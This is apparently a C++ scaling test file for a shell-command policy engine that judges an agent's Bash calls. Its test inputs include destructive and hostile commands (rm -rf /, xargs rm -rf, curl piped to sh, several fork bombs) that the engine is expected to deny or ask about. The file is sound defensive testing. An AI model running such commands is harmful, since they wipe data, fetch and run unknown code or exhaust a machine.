// No quadratic algorithm on the request path (issue 10): every stage is fed the worst legal
// shapes at two sizes, 1/8 of the input limit and the limit itself, and the time must grow
// like the size: the ratio of the two times (best of a few runs, CPU time) stays below 4x the
// ratio of the sizes (32), half of what a quadratic stage shows (64). Linear stages measure 9-17
// here: the big input's tree outgrows the caches, and machines differ in how much, so the bound
// leaves room for the memory hierarchy and none for a square. A ratio, never a wall-clock bound.
// The inputs are generated here.
//
// Also: nothing crashes, and the decision is the expected one (never allow where the line
// runs something the policy does not allow).
#include <algorithm>
#include <ctime>
#include <functional>
#include <string>
#include <vector>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>
#if defined(__GLIBC__)
#include <malloc.h>
#endif

#include "grammar/shell/commands.hpp"
#include "vigie/vigie.hpp"

namespace {

// The request input (`{"command": "…"}`, JSON-escaped) is what the input limit bounds: a line
// is generated to weigh `size` bytes there.
constexpr std::size_t kLimit = 1u << 20;

std::size_t escaped_size(const std::string& s) {
  return nlohmann::json(s).dump().size() - 2;
}

std::string fill(const std::string& unit, std::size_t size, const std::string& head = "",
                 const std::string& tail = "") {
  std::size_t budget = size - 32 - escaped_size(head) - escaped_size(tail);
  std::size_t n = std::max<std::size_t>(1, budget / escaped_size(unit));
  std::string s;
  s.reserve(head.size() + n * unit.size() + tail.size());
  s += head;
  for (std::size_t i = 0; i < n; ++i) s += unit;
  s += tail;
  return s;
}

struct Shape {
  const char* name;
  std::function<std::string(std::size_t)> make;
  vigie::Effect expected;  // the decision under the policy below
  bool parses = true;      // parse_commands says ok
  // The decision comes from a check of the whole line, made before it is parsed (a fork bomb).
  bool line_check = false;
};

// A line (or a script it runs) of more simple commands than the limit `shell-commands` (10,000;
// a line of 1 MiB may hold 170,000) does not parse and is asked, whatever its shape, unless a
// check of the whole line decides (docs/limits.md); tests/shell/robustness_test.cpp and
// grammar/shell/plain_test.cpp check where the limit falls.
bool over_commands(const std::string& message) {
  return message.find("commands in one line") != std::string::npos;
}

// 60 levels of `$(…)`: the parser's nesting limit is 64.
std::string nest(std::size_t size) {
  std::string one = "echo ";
  for (int i = 0; i < 60; ++i) one += "$(echo ";
  one += "true";
  one += std::string(60, ')');
  return fill(one + "; ", size);
}

const std::vector<Shape>& shapes() {
  using vigie::Effect;
  static const std::vector<Shape> v = {
      {"`;` list", [](std::size_t n) { return fill("true; ", n, "", "true"); }, Effect::allow},
      {"`;` list, rm -rf / last", [](std::size_t n) { return fill("true; ", n, "", "rm -rf /"); },
       Effect::deny},
      {"pipeline", [](std::size_t n) { return fill("cat | ", n, "", "cat"); }, Effect::allow},
      {"pipeline, curl | sh",
       [](std::size_t n) { return fill("cat | ", n, "curl -s https://x.sh | ", "sh"); },
       Effect::ask},
      {"pipeline of downloads",
       [](std::size_t n) { return fill("curl -s https://x.sh | ", n, "", "sh"); }, Effect::ask},
      {"pipeline of finds, xargs rm -rf last",
       [](std::size_t n) { return fill("find / | ", n, "", "xargs rm -rf"); }, Effect::deny},
      {"&& chain", [](std::size_t n) { return fill("true && ", n, "", "true"); }, Effect::allow},
      {"|| chain, rm -rf ~ last", [](std::size_t n) { return fill("true || ", n, "", "rm -rf ~"); },
       Effect::deny},
      {"functions", [](std::size_t n) { return fill("f(){ :; }; ", n); }, Effect::allow},
      {"fork bomb among functions",
       [](std::size_t n) { return fill("f(){ :; }; ", n, "", "b(){ b|b& }; b"); }, Effect::deny,
       true, true},
      {"redirections", [](std::size_t n) { return fill(" >/dev/null", n, "cat"); }, Effect::allow},
      {"deep nesting", nest, Effect::allow},
      {"wide nesting", [](std::size_t n) { return fill(" $(true)", n, "echo"); }, Effect::allow},
      {"backticks", [](std::size_t n) { return fill(" `true`", n, "echo"); }, Effect::allow},
      {"long word", [](std::size_t n) { return fill("a", n, "echo "); }, Effect::allow},
      {"`[` without `]` (a glob test per `[`)", [](std::size_t n) { return fill("[", n, "echo "); },
       Effect::allow},
      {"quotes", [](std::size_t n) { return fill(" 'a' \"b\"", n, "echo"); }, Effect::allow},
      {"bash -c big script", [](std::size_t n) { return fill("true; ", n, "bash -c '", "true'"); },
       Effect::allow},
      {"bash -c big script, rm -rf / last",
       [](std::size_t n) { return fill("true; ", n, "bash -c '", "rm -rf /'"); }, Effect::deny},
      {"here-documents", [](std::size_t n) { return fill("cat <<EOF\ntext $HOME\nEOF\n", n); },
       Effect::allow},
      {"one big here-document",
       [](std::size_t n) { return fill("text $(true)\n", n, "cat <<EOF\n", "EOF\n"); },
       Effect::allow},
      {"`f(){ ` repeated (unclosed)", [](std::size_t n) { return fill("f(){ ", n); }, Effect::ask,
       false},
      {"`(` repeated (unclosed)", [](std::size_t n) { return fill("(", n); }, Effect::ask, false},
      // Effects: wrappers seen through one by one, paths judged one by one, globs, redirections.
      {"wrapper chain", [](std::size_t n) { return fill("sudo ", n, "", "true"); }, Effect::ask},
      {"env chain, rm -rf / last", [](std::size_t n) { return fill("env ", n, "", "rm -rf /"); },
       Effect::deny},
      {"many operands", [](std::size_t n) { return fill(" a", n, "cat"); }, Effect::ask},
      {"many write redirections", [](std::size_t n) { return fill(" >a", n, "cat"); }, Effect::ask},
      {"many globs", [](std::size_t n) { return fill(" /e?c/*", n, "cat"); }, Effect::ask},
      {"long option cluster", [](std::size_t n) { return fill("q", n, "tar -"); }, Effect::ask},
      // Hosts a command names (engine/named_urls.cpp): URLs in one word and in many, hosts.
      {"one word of URLs", [](std::size_t n) { return fill("http://", n, "mytool "); },
       Effect::ask},
      {"many URL words", [](std::size_t n) { return fill(" https://x.example/a", n, "git clone"); },
       Effect::ask},
      {"many host operands", [](std::size_t n) { return fill(" h:x", n, "scp"); }, Effect::ask},
      // Programs that run a command nest one level each (launchers, package runners): each
      // level copies the words it runs, so the nesting is bounded before that work.
      {"launcher chain (xterm -e xterm -e …)",
       [](std::size_t n) { return fill("xterm -e ", n, "", "rm -rf /"); }, Effect::ask},
      {"package runner chain (npx cross-env npx …)",
       [](std::size_t n) { return fill("npx cross-env ", n, "", "rm -rf /"); }, Effect::ask},
  };
  return v;
}

double cpu_seconds(const std::function<void()>& f, int runs) {
  double best = 1e9;
  for (int i = 0; i < runs; ++i) {
    std::clock_t t0 = std::clock();
    f();
    best = std::min(best, static_cast<double>(std::clock() - t0) / CLOCKS_PER_SEC);
  }
  return best;
}

// Memory freed stays in the process: a second run of the big input then costs what the
// algorithm costs, not the kernel's first touch of hundreds of MB (on some virtual machines a
// page fault costs several microseconds: the first run at 1 MiB spends more time faulting than
// parsing, while the small input, run three times, reuses its pages).
void keep_freed_memory() {
#if defined(__GLIBC__)
  static const bool done = [] {
    mallopt(M_MMAP_THRESHOLD, 1 << 30);
    mallopt(M_TRIM_THRESHOLD, 1 << 30);
    return true;
  }();
  (void)done;
#endif
}

// Times `f` on the two sizes; checks the growth is linear.
void check_linear(const char* stage, const Shape& shape,
                  const std::function<void(const std::string&)>& f) {
  keep_freed_memory();
  const std::size_t small = kLimit / 8, big = kLimit;
  std::string a = shape.make(small), b = shape.make(big);
  double ta = cpu_seconds([&] { f(a); }, 3);
  double tb = cpu_seconds([&] { f(b); }, 1);
  double size_ratio = static_cast<double>(b.size()) / static_cast<double>(a.size());
  // Below 20 ms at the limit, the clock's resolution says more than the algorithm.
  auto ratio_of = [&] { return tb < 0.02 ? 1.0 : tb / std::max(ta, 1e-3); };
  // The big size once, and again (best of three) only when the machine may have been busy.
  constexpr double kSlack = 4.0;
  if (ratio_of() >= kSlack * size_ratio) tb = std::min(tb, cpu_seconds([&] { f(b); }, 3));
  double ratio = ratio_of();
  INFO(stage << " / " << shape.name << ": " << a.size() << " bytes " << ta * 1000 << " ms, "
             << b.size() << " bytes " << tb * 1000 << " ms (ratio " << ratio << ", sizes "
             << size_ratio << ")");
  CHECK(ratio < kSlack * size_ratio);
  WARN(stage << " / " << shape.name << ": " << b.size() << " bytes in " << tb * 1000 << " ms");
}

vigie::Request request(const std::string& line) {
  vigie::Request r;
  r.tool = "Bash";
  r.input_json = nlohmann::json{{"command", line}}.dump();
  r.cwd = r.project_root = "/home/u/p";
  r.home = "/home/u";
  return r;
}

}  // namespace

TEST_CASE("scaling: the parser is linear in the worst shapes", "[scaling]") {
  for (const auto& shape : shapes()) {
    check_linear("parse", shape, [&](const std::string& line) {
      auto r = vigie::shell::parse_commands(line);
      const bool over = !r.errors.empty() && over_commands(r.errors.back().message);
      INFO(shape.name << (over ? ": over the limit of commands" : ""));
      CHECK(r.ok == (shape.parses && !over));
      CHECK(r.ok == r.errors.empty());
    });
  }
}

TEST_CASE("scaling: decide is linear in the worst shapes and never allows too much", "[scaling]") {
  auto c = vigie::compile({{"scaling.vigie", R"(
policy "scaling"
mode ask
commands {
  allow true | cat | echo | : | bash -c
  deny rm -rf
}
)"}});
  REQUIRE(c.ok());
  vigie::DecideOptions opt;
  opt.fs = vigie::virtual_file_system({});
  for (const auto& shape : shapes()) {
    check_linear("decide", shape, [&](const std::string& line) {
      auto req = request(line);
      REQUIRE(req.input_json.size() <= kLimit);
      auto d = c.policy->decide(req, opt);
      INFO(shape.name << ": " << vigie::to_string(d.decision) << " " << d.rule.id << " "
                      << d.message.substr(0, 200));
      const bool over = d.error && over_commands(*d.error) && !shape.line_check;
      CHECK(d.decision == (over ? vigie::Effect::ask : shape.expected));
    });
  }
}

TEST_CASE("scaling: fork bombs are found anywhere in a line at the limit", "[scaling]") {
  auto c = vigie::compile({{"scaling.vigie", R"(
policy "scaling"
mode ask
commands {
  allow true | cat | echo | :
}
)"}});
  REQUIRE(c.ok());
  vigie::DecideOptions opt;
  opt.fs = vigie::virtual_file_system({});
  const std::size_t n = kLimit;
  struct Case {
    std::string line;
    vigie::Effect expected;
  };
  const std::vector<Case> cases = {
      // Defined first, called 1 MiB later.
      {fill("true; ", n, ":(){ :|:& };", ":"), vigie::Effect::deny},
      // `$0` calls, after 1 MiB of harmless functions.
      {fill("f(){ :; }; ", n, "", "b(){ $0|$0& }; b"), vigie::Effect::deny},
      // `function` keyword and newlines among 1 MiB of `;`.
      {fill("true; ", n, "", "\nfunction bomb {\n bomb | bomb &\n}\nbomb"), vigie::Effect::deny},
      // Recursion without a pipe or `&`, and a bomb never called: not fork bombs (ask: `g`
      // and `h` are not allowed commands).
      {fill("f(){ :; }; ", n, "g(){ g; g; }; ", "g"), vigie::Effect::ask},
      {fill("true; ", n, "", "h(){ h|h& }"), vigie::Effect::ask},
  };
  for (const auto& k : cases) {
    auto d = c.policy->decide(request(k.line), opt);
    INFO(k.line.substr(0, 40) << "…" << k.line.substr(k.line.size() - 40) << ": "
                              << vigie::to_string(d.decision) << " " << d.rule.id);
    CHECK(d.decision == k.expected);
    CHECK((d.rule.id == "fork-bomb") == (k.expected == vigie::Effect::deny));
  }
}

// The resolver walks a path component by component, and on the real filesystem each prefix is
// a look-up (engine/paths.cpp, engine/fs_decision.cpp): below a prefix that is missing or not a
// folder nothing is looked up, so a path of 28,000 components (56 KiB, under the 64 KiB limit of
// a path) costs its length, not its length times its depth.
TEST_CASE("scaling: a deep path is walked in linear time on the real filesystem", "[scaling]") {
  auto c = vigie::compile({{"deep.vigie", R"(
policy "deep"
mode ask
commands {
  allow cat
}
paths {
  deny .env
}
)"}});
  REQUIRE(c.ok());
  vigie::DecideOptions opt;
  opt.fs = vigie::real_file_system();
  opt.trace = false;
  auto line = [](std::size_t bytes) {
    std::string s = "cat ";
    while (s.size() < bytes) s += "a/";
    return s + "x";
  };
  const std::string a = line(7 * 1024), b = line(56 * 1024);
  auto decide = [&](const std::string& l) {
    auto d = c.policy->decide(request(l), opt);
    CHECK(d.decision == vigie::Effect::allow);
  };
  double ta = cpu_seconds([&] { decide(a); }, 3);
  double tb = cpu_seconds([&] { decide(b); }, 1);
  const double size_ratio = static_cast<double>(b.size()) / static_cast<double>(a.size());
  auto ratio_of = [&] { return tb < 0.02 ? 1.0 : tb / std::max(ta, 1e-3); };
  if (ratio_of() >= 4.0 * size_ratio) tb = std::min(tb, cpu_seconds([&] { decide(b); }, 3));
  INFO(a.size() << " bytes " << ta * 1000 << " ms, " << b.size() << " bytes " << tb * 1000
                << " ms");
  CHECK(ratio_of() < 4.0 * size_ratio);
}

// A line's globs are compared with each glob of the policy's path rules (engine/glob_meet.hpp):
// a megabyte of `a*a*…`, or thousands of glob words, against a thousand glob rules took 100 s
// and 3.8 GB before the comparisons had a budget (`glob-meet-cells`). Linear, bounded, and never
// allowed.
TEST_CASE("scaling: globs against a thousand glob rules stay bounded", "[scaling]") {
  std::string rules;
  for (int i = 0; i < 1000; ++i) rules += " 'src/m" + std::to_string(i) + "/*x*y*z'";
  auto c = vigie::compile({{"globs.vigie",
                            "policy \"globs\"\nmode auto\ndefault allow\npaths {\n"
                            "  deny" +
                                rules + "\n  protect" + rules + "\n}\n"}});
  REQUIRE(c.ok());
  vigie::DecideOptions opt;
  opt.fs = vigie::virtual_file_system({});
  opt.trace = false;
  const std::vector<Shape> globs = {
      {"one glob word of stars", [](std::size_t n) { return fill("a*", n, "cat src/*/"); },
       vigie::Effect::deny},
      {"a glob of many folders", [](std::size_t n) { return fill("*/", n, "cat src/", "x"); },
       vigie::Effect::deny},
      {"glob words", [](std::size_t n) { return fill(" src/*/a*", n, "cat"); },
       vigie::Effect::deny},
      {"glob words written", [](std::size_t n) { return fill(" src/*/a*", n, "touch"); },
       vigie::Effect::deny},
  };
  for (const auto& shape : globs) {
    check_linear("decide", shape, [&](const std::string& line) {
      auto d = c.policy->decide(request(line), opt);
      INFO(shape.name << ": " << vigie::to_string(d.decision) << " " << d.rule.id);
      CHECK(d.decision != vigie::Effect::allow);
      // The comparisons' budget, or (thousands of words) the paths' limit before it.
      REQUIRE(d.error.has_value());
      INFO(*d.error);
      CHECK((d.error->find("comparisons with the path rules") != std::string::npos ||
             d.error->find("more than 4096 paths") != std::string::npos));
    });
  }
  // A line of a few dozen glob words that reach no rule's folder is judged in full.
  std::string line = "cat";
  for (int i = 0; i < 40; ++i) line += " src/x" + std::to_string(i) + "/*.py";
  auto d = c.policy->decide(request(line), opt);
  CHECK(d.decision == vigie::Effect::allow);
  CHECK_FALSE(d.error.has_value());
  CHECK(c.policy->decide(request("cat src/m7/*x*"), opt).decision == vigie::Effect::deny);
}

// A deny rule's options are looked for in every word of the command: a command of a megabyte of
// words against a thousand option rules read every word once per rule (3.5 s). A command of
// more words than `command-options` is read once for all its rules, its options up to that
// limit.
TEST_CASE("scaling: a command of many words against a thousand option rules", "[scaling]") {
  std::string rules;
  for (int i = 0; i < 1000; ++i) rules += "  deny cat --opt" + std::to_string(i) + " \"No.\"\n";
  auto c =
      vigie::compile({{"opts.vigie", "policy \"opts\"\nmode auto\ndefault allow\ncommands {\n" +
                                         rules + "  deny cat -b \"No b.\"\n}\n"}});
  REQUIRE(c.ok());
  vigie::DecideOptions opt;
  opt.fs = vigie::virtual_file_system({});
  opt.trace = false;
  const std::vector<Shape> lines = {
      {"operands", [](std::size_t n) { return fill(" y", n, "cat"); }, vigie::Effect::ask},
      {"short options", [](std::size_t n) { return fill(" -n", n, "cat"); }, vigie::Effect::ask},
      // `--op` is a prefix of `--opt0`: git-style abbreviations count.
      {"long options", [](std::size_t n) { return fill(" --op", n, "cat"); }, vigie::Effect::deny},
  };
  for (const auto& shape : lines) {
    check_linear("decide", shape, [&](const std::string& line) {
      auto d = c.policy->decide(request(line), opt);
      INFO(shape.name << ": " << vigie::to_string(d.decision) << " " << d.rule.id);
      CHECK(d.decision == shape.expected);
    });
  }
  // An option among the first 4,096 is found, before a megabyte of operands or after options.
  CHECK(c.policy->decide(request(fill(" y", kLimit / 2, "cat -b")), opt).decision ==
        vigie::Effect::deny);
  CHECK(c.policy->decide(request(fill(" y", kLimit / 2, "cat --opt7")), opt).decision ==
        vigie::Effect::deny);
  CHECK(c.policy->decide(request(fill(" -n", 8000, "cat", " --opt7")), opt).decision ==
        vigie::Effect::deny);
}
